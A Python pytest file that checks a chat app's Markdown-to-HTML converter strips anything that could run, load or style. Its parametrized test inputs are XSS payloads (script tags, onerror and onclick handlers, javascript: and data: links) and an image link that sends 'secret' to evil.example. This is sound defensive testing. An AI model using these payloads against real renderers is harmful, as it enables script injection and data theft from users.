"""Markdown to HTML: nothing in it runs, loads or styles."""

from html.parser import HTMLParser

import pytest

from chat.markdown import to_html


def test_ordinary_markdown_is_shown() -> None:
    html = to_html(
        "**Bold** and `code`\n\n1. one\n2. two\n\n[help](/help/x/) [web](https://a.example)"
    )
    assert "<strong>Bold</strong>" in html
    assert "<li>one</li>" in html
    assert 'href="/help/x/"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![pixel](https://evil.example/?q=secret)",
        "[click](javascript:alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD4=)",
        '<a href="https://a.example" onclick="alert(1)">x</a>',
        "<style>*{display:none}</style>",
        '[x](https://a.example "onmouseover=alert(1)")',
    ],
)
def test_what_could_act_is_gone(text: str) -> None:
    found = Elements(to_html(text))
    assert not {"script", "img", "style", "iframe"} & {tag for tag, _ in found.elements}
    attributes = [attribute for _, attributes in found.elements for attribute in attributes]
    assert not [name for name, _ in attributes if name.startswith("on") or name == "style"]
    addresses = [value or "" for name, value in attributes if name == "href"]
    assert all(address.startswith("https://") for address in addresses)


class Elements(HTMLParser):
    """The elements of a piece of HTML, as a browser would read them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))
